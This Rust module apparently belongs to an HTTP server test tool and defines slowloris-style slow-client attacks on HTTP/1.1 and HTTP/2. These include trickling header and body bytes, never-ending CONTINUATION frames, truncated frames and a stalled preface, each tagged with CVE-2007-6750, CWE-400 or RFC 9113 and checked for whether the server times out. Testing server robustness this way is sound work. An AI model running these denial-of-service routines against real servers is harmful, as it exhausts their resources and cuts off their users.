//! Clients that take their time (slowloris): each byte keeps a connection, a buffer and a timer.

use super::{Attack, FOR_A_TIMEOUT, Outcome, Target};
use crate::frame::{PREFACE, flag, frame, kind};
use crate::h1::H1;
use crate::h2::H2;
use crate::hpack;
use crate::wire::Sent;
use std::io;
use std::time::{Duration, Instant};

pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: "silence", source: "CWE-400", run: |target| h1(target, "", Then::Silence) },
    Attack {
        name: "slowloris in an h1 head",
        source: "CVE-2007-6750",
        run: |target| h1(target, GET, Then::Byte(b'a')),
    },
    Attack {
        name: "slowloris in an h1 head: silence",
        source: "CVE-2007-6750",
        run: |target| h1(target, GET, Then::Silence),
    },
    Attack {
        name: "slowloris in an h1 body",
        source: "CVE-2007-6750",
        run: |target| h1(target, &format!("{}content-length: 1000000\r\n\r\n", post(target)), Then::Byte(b' ')),
    },
    Attack {
        name: "slowloris in an h1 body: silence",
        source: "CVE-2007-6750",
        run: |target| h1(target, &format!("{}content-length: 1000000\r\n\r\n", post(target)), Then::Silence),
    },
    Attack {
        name: "slowloris in an h1 chunk",
        source: "CVE-2007-6750",
        run: |target| {
            h1(target, &format!("{}transfer-encoding: chunked\r\n\r\nfffff\r\n", post(target)), Then::Byte(b' '))
        },
    },
    Attack { name: "slowloris in the h2 preface", source: "RFC 9113, 3.4", run: preface },
    Attack { name: "h2 preface without settings", source: "RFC 9113, 3.4", run: no_settings },
    Attack { name: "idle on h2", source: "CWE-400", run: idle },
    Attack { name: "slowloris in an h2 frame header", source: "RFC 9113, 10.5", run: frame_header },
    Attack { name: "slowloris in an h2 header block", source: "RFC 9113, 10.5", run: header_block },
    Attack { name: "slowloris in an h2 header block: silence", source: "RFC 9113, 10.5", run: header_block_silent },
    Attack { name: "slowloris in an h2 body", source: "RFC 9113, 10.5", run: |target| body(target, Then::Byte(b' ')) },
    Attack {
        name: "slowloris in an h2 body: silence",
        source: "RFC 9113, 10.5",
        run: |target| body(target, Then::Silence),
    },
];

/// Not a whole head.
const GET: &str = "GET / HTTP/1.1\r\nhost: siege.test\r\nx-slow: ";
/// Between two bytes.
const PACE: Duration = Duration::from_millis(100);

#[derive(Clone, Copy)]
enum Then {
    Silence,
    /// This one, again and again.
    Byte(u8),
}

fn post(target: &Target) -> String {
    format!("POST {} HTTP/1.1\r\nhost: siege.test\r\ncontent-type: application/json\r\n", target.post)
}

fn h1(target: &Target, begin: &str, then: Then) -> io::Result<Outcome> {
    let mut connection = H1::open(target.address)?;
    connection.send(begin.as_bytes());
    let end = Instant::now() + FOR_A_TIMEOUT;
    let mut patience = FOR_A_TIMEOUT;
    if let Then::Byte(byte) = then {
        patience = Duration::from_secs(1);
        while Instant::now() < end && !connection.wait(PACE, usize::MAX).closed {
            if connection.send(&[byte]) == Sent::Gone {
                break;
            }
        }
    }
    Ok(Outcome::of_h1(connection, patience))
}

fn preface(target: &Target) -> io::Result<Outcome> {
    let mut connection = H2::silent(target.address)?;
    for byte in &PREFACE[..PREFACE.len() - 1] {
        connection.send(&[*byte]);
        if connection.wait(PACE, |_| false).closed {
            break;
        }
    }
    Ok(Outcome::of_broken_h2(connection, FOR_A_TIMEOUT))
}

fn no_settings(target: &Target) -> io::Result<Outcome> {
    let mut connection = H2::silent(target.address)?;
    connection.send(PREFACE);
    Ok(Outcome::of_broken_h2(connection, FOR_A_TIMEOUT))
}

fn idle(target: &Target) -> io::Result<Outcome> {
    Ok(Outcome::of_broken_h2(H2::open(target.address, &[])?, FOR_A_TIMEOUT))
}

fn frame_header(target: &Target) -> io::Result<Outcome> {
    let mut connection = H2::open(target.address, &[])?;
    connection.mute();
    connection.send(&frame(kind::HEADERS, flag::END_STREAM, 1, &[0; 100])[..5]);
    Ok(Outcome::of_broken_h2(connection, FOR_A_TIMEOUT))
}

fn header_block(target: &Target) -> io::Result<Outcome> {
    let mut connection = H2::open(target.address, &[])?;
    connection.mute();
    let block = hpack::request("GET", &target.get, &[]);
    connection.send(&frame(kind::HEADERS, flag::END_STREAM, 1, &block));
    let end = Instant::now() + FOR_A_TIMEOUT;
    while Instant::now() < end && !connection.wait(PACE, |_| false).closed {
        let mut field = Vec::new();
        hpack::literal(&mut field, b"x", b"");
        if connection.send(&frame(kind::CONTINUATION, 0, 1, &field)) == Sent::Gone {
            break;
        }
    }
    Ok(Outcome::of_broken_h2(connection, FOR_A_TIMEOUT))
}

fn header_block_silent(target: &Target) -> io::Result<Outcome> {
    let mut connection = H2::open(target.address, &[])?;
    connection.mute();
    let block = hpack::request("GET", &target.get, &[]);
    connection.send(&frame(kind::HEADERS, flag::END_STREAM, 1, &block));
    Ok(Outcome::of_broken_h2(connection, FOR_A_TIMEOUT))
}

fn body(target: &Target, then: Then) -> io::Result<Outcome> {
    let mut connection = H2::open(target.address, &[])?;
    let headers = [("content-type", "application/json"), ("content-length", "1000000")];
    connection.request(1, &hpack::request("POST", &target.post, &headers), false);
    let end = Instant::now() + FOR_A_TIMEOUT;
    while Instant::now() < end {
        let seen = connection.wait(PACE, |seen| !seen.answers.is_empty() || !seen.resets.is_empty());
        if seen.closed || !seen.answers.is_empty() || !seen.resets.is_empty() {
            break;
        }
        if let Then::Byte(byte) = then {
            connection.send(&frame(kind::DATA, 0, 1, &[byte]));
        }
    }
    // The answer is followed by a reset: nobody wants the rest.
    connection.wait(Duration::from_secs(5), |seen| !seen.resets.is_empty());
    Ok(Outcome::of_h2(connection, Duration::from_secs(5)))
}
